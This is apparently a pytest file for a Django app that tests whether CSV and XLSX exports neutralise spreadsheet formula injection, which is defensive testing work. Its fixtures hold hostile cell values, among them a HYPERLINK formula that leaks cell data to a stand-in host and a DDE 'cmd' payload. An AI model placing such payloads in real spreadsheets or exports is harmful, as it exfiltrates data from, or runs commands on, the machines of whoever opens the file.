"""Finding 3 of issue #10: no exported cell runs as a formula (CSV and XLSX of the lists, commands, reports)."""
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from core.exports import safe_cell
from core.testing import login, make_unit

ATTACK = '=HYPERLINK("http://x/?d="&A1,"Bấm vào")'


@pytest.mark.parametrize("value,expected", [
    (ATTACK, "'" + ATTACK), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Phòng QLKH", "Phòng QLKH"), ("-5", "-5"), ("+84 233 3852 123", "+84 233 3852 123"), (12, 12), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def hostile_unit(tenants):
    return make_unit(tenants.org, "x1", name=ATTACK, short_name=ATTACK, abbreviation="@SUM(1+1)")


def test_list_csv_export_neutralises_formulas(client, tenants, hostile_unit):
    login(client, tenants.director)
    response = client.get(reverse("core:unit_list"), {"export": "csv"})
    text = response.content.decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in text
    assert "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text


def test_list_xlsx_export_has_no_formula_cell(client, tenants, hostile_unit):
    from openpyxl import load_workbook

    login(client, tenants.director)
    response = client.get(reverse("core:unit_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + ATTACK in [cell.value for cell in cells]


def test_directives_export_command_neutralises_task_texts(tenants):
    from directives import services

    services.assigned_task_create(actor=tenants.director, text="=1+1 báo cáo", lead_unit=tenants.unit,
                                  assigned_on=dt.date(2026, 11, 2), deadline_text="")
    out = io.StringIO()
    call_command("export_directives", org=tenants.org.code, stdout=out)
    assert "'=1+1 báo cáo" in out.getvalue()
    assert ",=1+1" not in out.getvalue()


def test_report_appendix_workbook_has_no_formula_cell():
    from openpyxl import load_workbook

    from reports.services import appendices_xlsx

    runs = lambda text: [{"text": text}]  # noqa: E731
    content = {"appendices": [
        {"kind": "paragraph", "runs": runs("Phụ lục I")},
        {"kind": "table", "columns": [("Đơn vị", 10), ("Số nhiệm vụ", 4)],
         "rows": [{"cells": [runs(ATTACK), runs("12")]}, {"cells": [runs("Phòng QLKH"), runs("3")]}]},
    ]}
    sheet = load_workbook(io.BytesIO(appendices_xlsx(content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + ATTACK in [cell.value for cell in cells] and 12 in [cell.value for cell in cells]
